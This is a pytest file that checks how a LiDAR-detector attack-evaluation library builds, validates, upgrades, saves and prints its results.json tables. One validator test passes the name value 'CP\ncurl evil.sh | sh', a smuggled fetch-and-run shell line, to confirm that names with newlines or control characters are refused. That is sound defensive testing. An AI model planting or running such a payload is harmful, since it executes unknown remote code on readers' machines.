"""results.json: building, validation errors, save/load, ranks and the paper-table printers."""

from __future__ import annotations

import copy
import json
import math

import jsonschema
import numpy as np
import pytest

from pcdet_atlas.evaluation.analyses import evaluate_attack
from pcdet_atlas.evaluation.intervals import asr_interval
from pcdet_atlas.evaluation.results import (
    PAPER_VARIANTS,
    SCHEMA_VERSION,
    ResultsError,
    build_results,
    build_variant_result,
    format_comparison_table,
    format_ranks,
    format_table,
    io,
    load_results,
    load_results_dir,
    ordered_variants,
    ranks_from_results,
    results_schema,
    save_results,
    validate_results,
)
from pcdet_atlas.evaluation.results.io import upgrade_v1
from pcdet_atlas.utils.provenance import SourceRevision

CLASSES = ["Vehicle", "Pedestrian", "Cyclist"]
TARGET = np.array([20.0, 2.0, 1.0, 4.0, 2.0, 2.0, 0.3], dtype=np.float32)


def metrics(l2_map: float) -> dict:
    """A waymo_evaluate-shaped dict (plus a key that must not be stored)."""
    out = {"L1/mAP": l2_map + 0.05, "L1/mAPH": l2_map + 0.04, "L2/mAP": l2_map}
    out["L2/mAPH"] = l2_map - 0.02
    for cls in CLASSES:
        for key in ("L1/AP", "L1/APH", "L2/AP", "L2/APH"):
            out[f"{cls}/{key}"] = out[key.replace("AP", "mAP")]
    out["Vehicle/L2/pr_curve"] = [0.1, 0.2]
    return out


INJECTION_SCORING = {
    "success_if_detected": True,
    "confidence": "injection",
    "rank_group": "injection",
}


def split_runs(num_targets: int, n_ok: int, num_runs: int = 3) -> list[dict]:
    """``num_targets`` targets with ``n_ok`` successes over ``num_runs`` runs of one sequence."""
    targets = [len(a) for a in np.array_split(np.arange(num_targets), num_runs)]
    hits = [int(np.sum(a < n_ok)) for a in np.array_split(np.arange(num_targets), num_runs)]
    return [{"sequence": "seq_0", "run_id": i, "num_targets": t, "num_success": h,
             "num_success_lenient": h} for i, (t, h) in enumerate(zip(targets, hits))]  # fmt: skip


def attack(variant: str, family: str, asr: float, num_targets: int = 100) -> dict:
    n_ok = round(asr * num_targets)
    return {
        "runs": split_runs(num_targets, n_ok),
        "variant": variant,
        "family": family,
        "num_frames": 200,
        "asr": n_ok / num_targets,
        "num_targets": num_targets,
        "num_success": n_ok,
        "asr_lenient": n_ok / num_targets,
        "num_success_lenient": n_ok,
        "asr_ci": [max(0.0, n_ok / num_targets - 0.1), min(1.0, n_ok / num_targets + 0.1)],
        "num_runs": 3,
        "num_spoofed_frames": num_targets,
        "num_untargeted": 0,
        "iou_threshold": 0.7,
        "score_threshold": None,
        "target_class": "Vehicle",
        "confidence": None,
        "lifecycle": None,
        "attributable": None,
    }


def family_of(variant: str) -> str:
    return "clean" if variant == "clean" else "injection" if variant[:3] == "inj" else "removal"


def model_results(model: str, l2_maps: dict, asrs: dict) -> dict:
    variants = {}
    for name, l2 in l2_maps.items():
        fam = family_of(name)
        variants[name] = build_variant_result(
            name,
            family=fam,
            num_frames=200,
            metrics=metrics(l2),
            class_names=CLASSES,
            attack=None if fam == "clean" else attack(name, fam, asrs[name]),
            rank_group=None if fam == "clean" else fam,
        )
    return build_results(
        model=model,
        config=f"cfgs/waymo_models/{model}.yaml",
        checkpoint=f"output/{model}/ckpt/checkpoint_epoch_30.pth",
        class_names=CLASSES,
        variants=variants,
        created="2026-11-21T08:00:00+00:00",
    )


# values from the paper's Tables 2-4 (CenterPoint, PTT), a subset of the variants
CP = model_results(
    "CenterPoint",
    {"clean": 0.657, "inj_rel_easy": 0.655, "inj_global_hard": 0.652, "rem_10": 0.643,
     "rem_60": 0.607},
    {"inj_rel_easy": 0.11, "inj_global_hard": 0.32, "rem_10": 0.90, "rem_60": 0.77},
)  # fmt: skip
PTT = model_results(
    "PTT",
    {"clean": 0.749, "inj_rel_easy": 0.750, "inj_global_hard": 0.749, "rem_10": 0.738,
     "rem_60": 0.723},
    {"inj_rel_easy": 0.14, "inj_global_hard": 0.50, "rem_10": 0.68, "rem_60": 0.50},
)  # fmt: skip
MSF = model_results(
    "MSF-4f",
    {"clean": 0.747, "inj_rel_easy": 0.746, "inj_global_hard": 0.745, "rem_10": 0.734,
     "rem_60": 0.717},
    {"inj_rel_easy": 0.13, "inj_global_hard": 0.46, "rem_10": 0.73, "rem_60": 0.53},
)  # fmt: skip


def test_build_variant_result_from_real_attack_metrics():
    dets, infos = [], []
    for k in range(9):
        dets.append(
            {
                "frame_id": f"s_{k:03d}",
                "name": np.array(["Vehicle"] if 1 <= k <= 3 else []),
                "boxes_lidar": np.array([TARGET] if 1 <= k <= 3 else np.zeros((0, 7))),
                "score": np.array([0.8] if 1 <= k <= 3 else []),
            }
        )
        infos.append(
            {
                "variant": "inj_rel_hard",
                "family": "injection",
                "spoofed": 1 <= k <= 4,
                "sequence_name": "seq_0",
                "run_id": 0,
                "run_position": k - 1 if 1 <= k <= 4 else -1,
                "lifecycle_k": k,
                "target_box": TARGET,
                "target_is_shadow": not 1 <= k <= 4,
                **INJECTION_SCORING,
            }
        )
    atk = evaluate_attack(dets, infos, window=4, recorded_window=4)
    entry = build_variant_result(
        "inj_rel_hard",
        family="injection",
        num_frames=9,
        metrics=metrics(0.6),
        class_names=CLASSES,
        attack=atk,
    )
    assert entry["asr"] == 0.75 and entry["num_targets"] == 4 and entry["num_success"] == 3
    assert entry["per_class"]["Cyclist"]["L2/APH"] == pytest.approx(0.58)
    assert "pr_curve" not in json.dumps(entry)
    assert entry["lifecycle"]["num_success"] == [0, 1, 1, 1, 0, 0, 0, 0, 0]
    assert entry["confidence"]["num_detected"] == 3
    json.dumps(entry, allow_nan=False)  # plain JSON types only
    with pytest.raises(ResultsError, match="variant"):
        build_variant_result(
            "inj_rel_easy",
            family="injection",
            num_frames=9,
            metrics=metrics(0.6),
            class_names=CLASSES,
            attack=atk,
        )


def test_save_and_load_round_trip(tmp_path):
    path = save_results(CP, tmp_path / "cp" / "results.json")
    assert load_results(path) == CP
    save_results(PTT, tmp_path / "ptt" / "results.json")
    assert [r["model"] for r in load_results_dir(tmp_path)] == ["CenterPoint", "PTT"]
    (tmp_path / "bad.json").write_text("{not json")
    with pytest.raises(ResultsError, match="bad.json"):
        load_results(tmp_path / "bad.json")
    with pytest.raises(ResultsError, match="no file"):
        load_results_dir(tmp_path / "empty")


def test_the_schema_is_a_standard_json_schema():
    """Any JSON Schema tool can check a results.json against results_schema() (the counts that
    must add up are the extra checks of validate_results)."""
    jsonschema.Draft202012Validator.check_schema(results_schema())
    jsonschema.validate(json.loads(json.dumps(CP)), results_schema())
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate({**CP, "schema_version": 1}, results_schema())


def test_older_schema_files_load_as_the_current_one(tmp_path):
    """Files written before rank_group (schema 1) or the untargeted counts (schema 2) load, with
    their families' rank groups and the counts unknown (None)."""
    old = copy.deepcopy(CP)
    old["schema_version"] = 1
    for entry in old["variants"].values():
        entry.pop("rank_group")
        for key in ("asr_ci", "num_runs", "num_spoofed_frames", "num_untargeted", "runs"):
            entry.pop(key)
    expected = copy.deepcopy(CP)
    for entry in expected["variants"].values():
        for key in ("asr_ci", "num_runs", "num_spoofed_frames", "num_untargeted", "runs"):
            entry[key] = None
    path = tmp_path / "results.json"
    path.write_text(json.dumps(old))
    assert load_results(path) == expected
    path.write_text(json.dumps(upgrade_v1(old)))
    assert load_results(path) == expected
    broken = {**old, "variants": {**old["variants"], "rem_10": {**old["variants"]["rem_10"]}}}
    broken["variants"]["rem_10"].pop("asr")
    path.write_text(json.dumps(broken))
    with pytest.raises(ResultsError, match=r"\['rem_10'\].*missing key 'asr'"):
        load_results(path)


def test_schema_3_files_load_with_reuse_counts_unknown(tmp_path):
    entry = build_variant_result(
        "rem_10", family="removal", num_frames=200, metrics=metrics(0.6), class_names=CLASSES,
        attack=attack("rem_10", "removal", 0.5), rank_group="removal", num_reused_frames=120,
    )  # fmt: skip
    assert entry["num_reused_frames"] == 120 and entry["num_recomputed_frames"] == 80
    old = _without_lifecycle_intervals(copy.deepcopy(CP), None)
    old["schema_version"] = 3
    for v in old["variants"].values():
        v.pop("num_reused_frames"), v.pop("num_recomputed_frames"), v.pop("runs")
    path = tmp_path / "v3.json"
    path.write_text(json.dumps(old))
    expected = _without_lifecycle_intervals(copy.deepcopy(CP), "null")  # no reuse: both None
    for v in expected["variants"].values():
        v["runs"] = None
    assert load_results(path) == expected


def _without_lifecycle_intervals(results: dict, how: str | None) -> dict:
    """``results`` as a schema-5 writer left its lifecycles: ``asr_ci`` and ``runs`` absent
    (``how`` None) or ``null`` (``'null'``, as the upgrade sets them)."""
    for v in results["variants"].values():
        if v.get("lifecycle") is not None:
            for key in ("asr_ci", "runs"):
                v["lifecycle"].pop(key)
                if how == "null":
                    v["lifecycle"][key] = None
    return results


def lifecycle_entry(num_sequences: int = 3) -> dict:
    """A real ``inj_rel_hard`` entry with a 4-frame lifecycle over ``num_sequences`` sequences of
    one run (frames 1-4 spoofed; the phantom detected at 1-3 in sequence 0, at 1-2 elsewhere)."""
    dets, infos = [], []
    for q in range(num_sequences):
        for k in range(9):
            hit = 1 <= k <= (3 if q == 0 else 2)
            dets.append({
                "frame_id": f"s{q}_{k:03d}", "name": np.array(["Vehicle"] if hit else []),
                "boxes_lidar": np.array([TARGET] if hit else np.zeros((0, 7))),
                "score": np.array([0.8] if hit else []),
            })  # fmt: skip
            infos.append({
                "variant": "inj_rel_hard", "family": "injection", "spoofed": 1 <= k <= 4,
                "sequence_name": f"seq_{q}", "run_id": 0,
                "run_position": k - 1 if 1 <= k <= 4 else -1, "lifecycle_k": k,
                "target_box": TARGET, "target_is_shadow": not 1 <= k <= 4, **INJECTION_SCORING,
            })  # fmt: skip
    atk = evaluate_attack(dets, infos, window=4, recorded_window=4)
    return build_variant_result(
        "inj_rel_hard", family="injection", num_frames=9 * num_sequences, metrics=metrics(0.6),
        class_names=CLASSES, attack=atk,
    )  # fmt: skip


def test_lifecycle_positions_carry_run_level_intervals():
    lc = lifecycle_entry()["lifecycle"]
    assert lc["num_success"][:4] == [0, 3, 3, 1]
    for k in range(9):
        runs = lc["runs"][k]
        assert sum(r["num_targets"] for r in runs) == lc["num_targets"][k] == 3
        assert lc["asr_ci"][k] == list(asr_interval(runs))
        assert lc["asr_ci"][k][0] <= lc["asr"][k] <= lc["asr_ci"][k][1]
    assert lifecycle_entry(1)["lifecycle"]["asr_ci"] == [None] * 9  # one run: no spread seen


def test_schema_5_files_load_with_lifecycle_intervals_unknown(tmp_path):
    results = copy.deepcopy(CP)
    results["variants"]["inj_rel_hard"] = lifecycle_entry()
    validate_results(results)
    old = _without_lifecycle_intervals(copy.deepcopy(results), None)
    old["schema_version"] = 5
    path = tmp_path / "v5.json"
    path.write_text(json.dumps(old))
    loaded = load_results(path)
    assert loaded["schema_version"] == SCHEMA_VERSION == 8
    assert loaded == _without_lifecycle_intervals(copy.deepcopy(results), "null")
    broken = copy.deepcopy(results)
    broken["variants"]["inj_rel_hard"]["lifecycle"]["runs"][2][0]["num_targets"] += 1
    with pytest.raises(ResultsError, match=r"\[k=2\]\['runs'\]"):
        validate_results(broken)


def test_schema_4_files_load_with_run_counts_unknown(tmp_path):
    old = _without_lifecycle_intervals(copy.deepcopy(CP), None)
    old["schema_version"] = 4
    for v in old["variants"].values():
        v.pop("runs")
    path = tmp_path / "v4.json"
    path.write_text(json.dumps(old))
    loaded = load_results(path)
    assert loaded["schema_version"] == SCHEMA_VERSION
    assert all(v["runs"] is None for v in loaded["variants"].values())
    assert {**loaded, "variants": None} == {**CP, "variants": None}
    assert CP["variants"]["clean"]["runs"] == []
    assert sum(r["num_targets"] for r in CP["variants"]["rem_10"]["runs"]) == 100


def test_schema_6_files_load_with_the_training_unknown(tmp_path):
    """What the weights were trained with (schema 7) is recorded by build_results; a schema-6
    file loads with both keys null; a schema-6 file holding one is refused naming it."""
    results = build_results(
        model="CenterPoint", config="cfgs/cp.yaml", checkpoint=None, class_names=CLASSES,
        variants=CP["variants"], created=CP["created"], training_seed=7, model_sha256="ab" * 32,
    )  # fmt: skip
    assert (results["training_seed"], results["model_sha256"]) == (7, "ab" * 32)
    path = tmp_path / "v6.json"
    old = {k: v for k, v in results.items() if k not in ("training_seed", "model_sha256")}
    path.write_text(json.dumps({**old, "schema_version": 6}))
    assert load_results(path) == {**results, "training_seed": None, "model_sha256": None}
    path.write_text(json.dumps({**results, "schema_version": 6}))
    with pytest.raises(ResultsError, match=r"v6.json: has 'training_seed', a key of schema 7"):
        load_results(path)
    for key, bad in (("training_seed", "7"), ("model_sha256", "abc")):
        with pytest.raises(ResultsError, match=key):
            validate_results({**results, key: bad})


def test_schema_7_files_load_with_the_source_unknown(tmp_path):
    """The code's revision (schema 8) is recorded by build_results from a SourceRevision; a
    schema-7 file loads with both keys null; a schema-7 file holding one is refused naming it."""
    source = SourceRevision(commit="0123456789abcdef" * 2 + "01234567", dirty=True)
    results = build_results(
        model="CenterPoint", config="cfgs/cp.yaml", checkpoint=None, class_names=CLASSES,
        variants=CP["variants"], created=CP["created"], source=source,
    )  # fmt: skip
    assert (results["source_commit"], results["source_dirty"]) == (source.commit, True)
    path = tmp_path / "v7.json"
    old = {k: v for k, v in results.items() if k not in ("source_commit", "source_dirty")}
    path.write_text(json.dumps({**old, "schema_version": 7}))
    assert load_results(path) == {**results, "source_commit": None, "source_dirty": None}
    path.write_text(json.dumps({**results, "schema_version": 7}))
    with pytest.raises(ResultsError, match=r"v7.json: has 'source_commit', a key of schema 8"):
        load_results(path)
    for key, bad in (("source_commit", "abc"), ("source_dirty", "no")):
        with pytest.raises(ResultsError, match=key):
            validate_results({**results, key: bad})


@pytest.mark.parametrize(
    "version, variant, key",
    [(4, "rem_10", "runs"), (3, "rem_10", "num_reused_frames"), (2, "clean", "asr_ci"),
     (1, "clean", "rank_group"), (3, "rem_10", "lifecycle.clean_score_counts"),
     (5, "rem_10", "lifecycle.asr_ci")],
)  # fmt: skip
def test_a_version_its_content_contradicts_is_refused(tmp_path, version, variant, key):
    """A file of an older schema_version that holds a value under a later version's key is an
    error naming the file, the version and the key, from load_results and the upgrade alike: the
    upgrade never overwrites the value."""
    results = copy.deepcopy(CP)
    results["schema_version"] = version
    for entry in results["variants"].values():  # a genuine file of that version...
        entry["lifecycle"] = None
        for newer, added in io._ADDED_IN.items():
            if added > version and "." not in newer:
                entry.pop(newer)
    entry = results["variants"][variant]  # ...but for one key
    if key.startswith("lifecycle."):
        entry["lifecycle"] = {key.split(".")[1]: [[1]]}
    else:
        entry[key] = {"runs": [], "num_reused_frames": 0, "asr_ci": [0.1, 0.2]}.get(key, "x")
    path = tmp_path / "results.json"
    path.write_text(json.dumps(results))
    with pytest.raises(ResultsError) as err:
        load_results(path)
    assert str(err.value).startswith(f"{path}['variants'][{variant!r}]: has {key!r}, a key of ")
    assert f"says schema_version {version}: the version contradicts" in str(err.value)
    upgrade = getattr(io, f"upgrade_v{version}")
    with pytest.raises(ResultsError, match=rf"^results\['variants'\]\['{variant}'\]: has"):
        upgrade(results)
    entry.pop("lifecycle" if "." in key else key)
    entry["lifecycle"] = None
    path.write_text(json.dumps(results))
    assert load_results(path)["schema_version"] == SCHEMA_VERSION  # the genuine file loads


def _broken(mutate):
    r = copy.deepcopy(CP)
    mutate(r)
    return r


@pytest.mark.parametrize(
    "mutate, match",
    [
        (lambda r: r.pop("checkpoint"), "missing key 'checkpoint'"),
        (lambda r: r.update(seed=3), "unknown key 'seed'"),
        (lambda r: r.update(schema_version=1), "schema_version"),
        (lambda r: r["variants"]["rem_10"].update(rank_group=3), "rank_group"),
        (lambda r: r["variants"]["rem_10"].pop("rank_group"), "rank_group"),
        (lambda r: r.update(created="yesterday"), "created"),
        (lambda r: r.update(class_names=["Vehicle", "Vehicle"]), "duplicate"),
        (lambda r: r["variants"]["rem_10"].update(asr=0.5), r"\['rem_10'\]\['asr'\]"),
        (lambda r: r["variants"]["rem_10"].update(asr=math.nan), r"\['asr'\]"),
        (lambda r: r["variants"]["rem_10"].update(num_success=101), "num_success"),
        # an interval needs the spread between at least two runs
        (
            lambda r: r["variants"]["rem_10"].update(num_runs=1),
            r"\['rem_10'\]\['asr_ci'\]: must be null with num_runs 1",
        ),
        (lambda r: r["variants"]["rem_10"].update(num_runs=None), r"\['asr_ci'\].*num_runs None"),
        (lambda r: r["variants"]["rem_10"].pop("asr_lenient"), "asr_lenient"),
        # the per-run counts add up to the variant's, one sorted entry per run
        (lambda r: r["variants"]["rem_10"]["runs"].pop(), r"\['runs'\]: 2 runs != num_runs 3"),
        (
            lambda r: r["variants"]["rem_10"]["runs"][0].update(num_targets=40),
            r"\['runs'\]: the runs' num_targets add up to 106, not 100",
        ),
        (
            lambda r: r["variants"]["rem_10"]["runs"][0].update(num_success=35),
            r"\['runs'\]\[0\]\['num_success'\]: 35 > num_targets 34",
        ),
        (lambda r: r["variants"]["rem_10"]["runs"].reverse(), "unique and sorted"),
        (lambda r: r["variants"]["rem_10"]["runs"][0].pop("run_id"), "missing key 'run_id'"),
        (
            lambda r: r["variants"]["rem_10"].update(
                num_reused_frames=150, num_recomputed_frames=10
            ),
            "150 reused",
        ),
        (lambda r: r["variants"]["rem_10"].update(num_reused_frames=3), "num_reused_frames"),
        (lambda r: r["variants"]["rem_10"].update(num_frames=True), "num_frames"),
        (lambda r: r["variants"]["clean"].update(asr=0.0), r"\['clean'\]\['asr'\]"),
        (lambda r: r["variants"]["inj_rel_easy"].update({"L2/mAP": 65.5}), "L2/mAP"),
        (lambda r: r["variants"]["clean"]["per_class"].pop("Cyclist"), "Cyclist"),
        (lambda r: r["variants"]["clean"]["per_class"]["Vehicle"].update({"L2/AP": -1}), "L2/AP"),
        (
            lambda r: r["variants"]["rem_10"].update(confidence={"kind": "removal"}),
            "missing key",
        ),
    ],
)
def test_validate_names_the_bad_key(mutate, match):
    with pytest.raises(ResultsError, match=match):
        validate_results(_broken(mutate))


def test_validate_checks_nested_confidence_and_lifecycle():
    dets = [
        {"frame_id": f"f{k}", "name": np.array(["Vehicle"]), "boxes_lidar": TARGET[None],
         "score": np.array([0.9])}
        for k in range(3)
    ]  # fmt: skip
    infos = [
        {"variant": "inj_rel_easy", "family": "injection", "spoofed": k > 0, "lifecycle_k": k,
         "target_box": TARGET, "target_is_shadow": k == 0, "sequence_name": "seq_0", "run_id": 0,
         **INJECTION_SCORING}
        for k in range(3)
    ]  # fmt: skip
    atk = evaluate_attack(dets, infos, window=1, recorded_window=2)
    r = copy.deepcopy(CP)
    r["variants"]["inj_rel_easy"] = build_variant_result(
        "inj_rel_easy",
        family="injection",
        num_frames=3,
        metrics=metrics(0.6),
        class_names=CLASSES,
        attack=atk,
    )
    validate_results(r)
    bad = copy.deepcopy(r)
    bad["variants"]["inj_rel_easy"]["confidence"]["histogram"]["counts"][3] += 1
    with pytest.raises(ResultsError, match=r"\['confidence'\]\['histogram'\]\['counts'\]"):
        validate_results(bad)
    bad = copy.deepcopy(r)
    bad["variants"]["inj_rel_easy"]["lifecycle"]["k"] = [0, 1, 3]
    with pytest.raises(ResultsError, match=r"\['lifecycle'\]\['k'\]"):
        validate_results(bad)
    bad = copy.deepcopy(r)
    bad["variants"]["inj_rel_easy"]["lifecycle"]["asr"][1] = 0.5
    with pytest.raises(ResultsError, match=r"k=1.*\['asr'\]"):
        validate_results(bad)


@pytest.mark.parametrize("key", ["model", "config", "checkpoint"])
@pytest.mark.parametrize("bad", ["CP\ncurl evil.sh | sh", "CP\n", "CP\r", "CP\x1b[2J", "CP\x85"])
def test_a_name_with_a_newline_or_control_character_is_refused(tmp_path, key, bad):
    """A name becomes a line of report.md and a cell of its tables: a newline in it would add
    lines of the file's choosing (shell lines, if the report lands where a shell reads it)."""
    with pytest.raises(ResultsError) as err:
        validate_results(_broken(lambda r: r.update({key: bad})), where="x/results.json")
    assert str(err.value).startswith(f"x/results.json[{key!r}]: {bad!r} does not match ")
    path = tmp_path / "results.json"  # nor is such a file loaded
    path.write_text(json.dumps({**CP, key: bad}))
    with pytest.raises(ResultsError, match=rf"\[{key!r}\]: "):
        load_results(path)
    validate_results(_broken(lambda r: r.update({key: "PHiM+LOT (§4) ü"})))  # printable: fine


def test_save_refuses_invalid(tmp_path):
    with pytest.raises(ResultsError, match="results.json"):
        save_results(_broken(lambda r: r.pop("model")), tmp_path / "results.json")
    assert not (tmp_path / "results.json").exists()


# ---------------------------------------------------------------------------- printers
def test_ordered_variants_follow_the_paper():
    assert ordered_variants(["rem_10", "zz_new", "clean", "inj_global_hard", "inj_rel_easy"]) == [
        "clean",
        "inj_rel_easy",
        "inj_global_hard",
        "rem_10",
        "zz_new",
    ]
    assert PAPER_VARIANTS[0] == "clean" and PAPER_VARIANTS[-1] == "rem_60"
    assert len(PAPER_VARIANTS) == 13


def test_format_table_text():
    text = format_table(CP)
    lines = text.splitlines()
    assert lines[0].startswith("CenterPoint (cfgs/waymo_models/CenterPoint.yaml)")
    assert lines[1].split() == ["Variant", "L2", "mAP", "L2", "mAPH", "ASR", "[95%", "CI]", "ASR",
                                "(IoU>0)", "Runs", "Targets"]  # fmt: skip
    assert set(lines[2]) == {"-", " "}
    rows = [line.split() for line in lines[3:]]
    assert [r[0] for r in rows] == ["clean", "inj_rel_easy", "inj_global_hard", "rem_10", "rem_60"]
    assert rows[0] == ["clean", "65.7", "63.7", "-", "-", "0", "0"]
    assert rows[2] == ["inj_global_hard", "65.2", "63.2", "0.32", "[0.22,", "0.42]", "0.32", "3",
                       "100"]  # fmt: skip
    assert rows[3] == ["rem_10", "64.3", "62.3", "0.90", "[0.80,", "1.00]", "0.90", "3", "100"]
    assert len({len(line) for line in lines[1:3]}) == 1  # header and rule aligned


def test_format_table_markdown():
    md = format_table(CP, "markdown", lenient=False)
    lines = md.splitlines()
    assert lines[0] == "**CenterPoint (cfgs/waymo_models/CenterPoint.yaml)**"
    assert lines[2] == "| Variant | L2 mAP | L2 mAPH | ASR [95% CI] | Runs | Targets |"
    assert lines[3] == "|:---|---:|---:|---:|---:|---:|"
    assert lines[4] == "| clean | 65.7 | 63.7 | - | 0 | 0 |"
    assert lines[-1] == "| rem_60 | 60.7 | 58.7 | 0.77 [0.67, 0.87] | 3 | 100 |"
    with pytest.raises(ValueError, match="fmt"):
        format_table(CP, "html")
    tex = format_table(CP, "latex", lenient=False).splitlines()
    assert tex[0] == "% CenterPoint (cfgs/waymo_models/CenterPoint.yaml)"
    assert tex[1:3] == ["\\begin{tabular}{lrrrrr}", "\\toprule"]
    assert tex[3] == "Variant & L2 mAP & L2 mAPH & ASR [95\\% CI] & Runs & Targets \\\\"
    assert tex[-3] == "rem\\_60 & 60.7 & 58.7 & 0.77 [0.67, 0.87] & 3 & 100 \\\\"


def test_comparison_table_models_as_rows():
    text = format_comparison_table([CP, MSF, PTT], family="removal")
    lines = text.splitlines()
    assert "Removal 10" in lines[0] and "Removal 60" in lines[0] and "Global" not in lines[0]
    assert lines[1].split() == ["Detector", "L2", "mAP", "ASR", "L2", "mAP", "ASR"]
    # each ASR with its run-level interval (the fixture's: +-0.1)
    assert lines[3].split() == ["CenterPoint", "64.3", "0.90", "[0.80,", "1.00]", "60.7", "0.77",
                                "[0.67,", "0.87]"]  # fmt: skip
    assert lines[5].split() == ["PTT", "73.8", "0.68", "[0.58,", "0.78]", "72.3", "0.50",
                                "[0.40,", "0.60]"]  # fmt: skip
    md = format_comparison_table([CP, MSF, PTT], "markdown", family="injection")
    rows = md.splitlines()
    assert rows[0] == (
        "| Detector | Rel-Fixed Easy L2 mAP | Rel-Fixed Easy ASR | Global Hard L2 mAP | "
        "Global Hard ASR |"
    )
    # best bold, second italic: mAP higher is better, ASR lower is better
    assert rows[2] == (
        "| CenterPoint | 65.5 | **0.11** [0.01, 0.21] | 65.2 | **0.32** [0.22, 0.42] |"
    )
    assert rows[3] == "| MSF-4f | _74.6_ | _0.13_ [0.03, 0.23] | _74.5_ | _0.46_ [0.36, 0.56] |"
    assert rows[4] == "| PTT | **75.0** | 0.14 [0.04, 0.24] | **74.9** | 0.50 [0.40, 0.60] |"


def test_comparison_marks_rank_ties_by_competition():
    """Best: no model is better; second: exactly one is. A tie for best leaves no second, a tie
    for second marks both."""
    maps = {"A": 0.836, "B": 0.836, "C": 0.821, "D": 0.714}  # higher is better
    asrs = {"A": 0.30, "B": 0.20, "C": 0.10, "D": 0.20}  # lower is better
    models = [model_results(m, {"rem_10": maps[m]}, {"rem_10": asrs[m]}) for m in maps]
    rows = format_comparison_table(models, "markdown").splitlines()[2:]
    assert rows == [
        "| A | **83.6** | 0.30 [0.20, 0.40] |",
        "| B | **83.6** | _0.20_ [0.10, 0.30] |",
        "| C | 82.1 | **0.10** [0.00, 0.20] |",
        "| D | 71.4 | _0.20_ [0.10, 0.30] |",
    ]
    tex = format_comparison_table(models, "latex").splitlines()
    assert tex[-4] == "C & 82.1 & \\textbf{0.10} [0.00, 0.20] \\\\"
    assert tex[-3] == "D & 71.4 & \\underline{0.20} [0.10, 0.30] \\\\"


def test_comparison_table_models_as_columns():
    text = format_comparison_table([CP, PTT], models_as="columns")
    lines = text.splitlines()
    assert "CenterPoint" in lines[0] and "PTT" in lines[0]
    assert lines[1].split() == ["Variant", "L2", "mAP", "ASR", "L2", "mAP", "ASR"]
    assert lines[3].split() == ["Clean", "65.7", "-", "74.9", "-"]
    assert lines[4].split() == ["Rel-Fixed", "Easy", "65.5", "0.11", "[0.01,", "0.21]", "75.0",
                                "0.14", "[0.04,", "0.24]"]  # fmt: skip
    assert len(lines) == 3 + 5
    with pytest.raises(ResultsError, match="no variant 'rem_20'"):
        format_comparison_table([CP, PTT], variants=["rem_20"])
    partial = copy.deepcopy(PTT)
    del partial["variants"]["rem_60"]
    shown = format_comparison_table([CP, partial], "markdown", family="removal", missing="show")
    assert (
        shown.splitlines()[-1] == "| PTT | **73.8** | **0.68** [0.58, 0.78] | missing | missing |"
    )
    # CenterPoint's rem_60 is the only value of its column: nothing to be best against
    assert shown.splitlines()[-2] == (
        "| CenterPoint | _64.3_ | _0.90_ [0.80, 1.00] | 60.7 | 0.77 [0.67, 0.87] |"
    )
    tex = format_comparison_table([CP, MSF, PTT], "latex", family="removal").splitlines()
    assert "\\multicolumn{2}{c}{Removal 10}" in tex[2] and tex[3] == "\\cmidrule(lr){2-3}"
    assert tex[-3].startswith("PTT & \\textbf{73.8} & \\textbf{0.68} [0.58, 0.78]")
    assert "\\underline{73.4}" in tex[-4]


def test_ranks_from_results_and_printer():
    ranks = ranks_from_results([CP, MSF, PTT])
    assert ranks["group_ranks"]["injection"] == {"CenterPoint": 1.0, "MSF-4f": 2.0, "PTT": 3.0}
    assert ranks["group_ranks"]["removal"] == {"CenterPoint": 3.0, "MSF-4f": 2.0, "PTT": 1.0}
    assert set(ranks["group_ranks"]) == {"injection", "removal"}  # clean has no rank group
    assert ranks["fit"]["slope"] == pytest.approx(-1.0) and ranks["fit"]["r2"] == pytest.approx(1)
    text = format_ranks(ranks)
    assert "CenterPoint" in text and "R^2 = 1.000" in text
    assert "removal rank = -1.0000 * injection rank + 4.0000" in text
    with pytest.raises(ResultsError, match="unique"):
        ranks_from_results([CP, CP])


def test_end_to_end_with_waymo_evaluate_and_engine_metadata(tmp_path):
    from pcdet_atlas.attacks.metadata import make_meta
    from pcdet_atlas.evaluation.waymo_metric import waymo_evaluate

    gt = [
        {"name": np.array(["Vehicle"]), "gt_boxes_lidar": TARGET[None],
         "num_points_in_gt": np.array([50]), "difficulty": np.array([0])}
        for _ in range(2)
    ]  # fmt: skip
    phantom = TARGET + np.array([0, 5, 0, 0, 0, 0, 0], np.float32)
    both = {"name": np.array(["Vehicle"] * 2), "boxes_lidar": np.stack([TARGET, phantom]),
            "score": np.array([0.9, 0.95])}  # fmt: skip
    # frame 0: only the real car; frame 1: the real car and the phantom
    dets = [
        {"frame_id": f"s_{i:03d}", **{k: v[: i + 1] for k, v in both.items()}} for i in range(2)
    ]
    infos = [
        make_meta("inj_rel_easy", "injection", spoofed=True, sequence_name="seq_0", run_id=0,
                  run_position=i, lifecycle_k=i + 1, target_box=phantom, **INJECTION_SCORING)
        for i in range(2)
    ]  # fmt: skip
    entry = build_variant_result(
        "inj_rel_easy",
        family="injection",
        num_frames=2,
        metrics=waymo_evaluate(gt, dets, CLASSES),
        class_names=CLASSES,
        attack=evaluate_attack(dets, infos),
    )
    assert entry["num_targets"] == 2 and entry["num_success"] == 1 and entry["asr"] == 0.5
    assert (
        entry["per_class"]["Vehicle"]["L2/AP"] < 1.0
    )  # the phantom, scored above the car, is an FP
    results = build_results(
        model="m", config="c.yaml", checkpoint=None, class_names=CLASSES,
        variants={"inj_rel_easy": entry},
    )  # fmt: skip
    assert load_results(save_results(results, tmp_path / "results.json")) == results
    # one spoof run: no interval (the spread between runs is unknown)
    assert entry["num_runs"] == 1 and entry["asr_ci"] is None
    assert format_table(results).splitlines()[-1].split()[3:] == ["0.50", "0.50", "1", "2"]
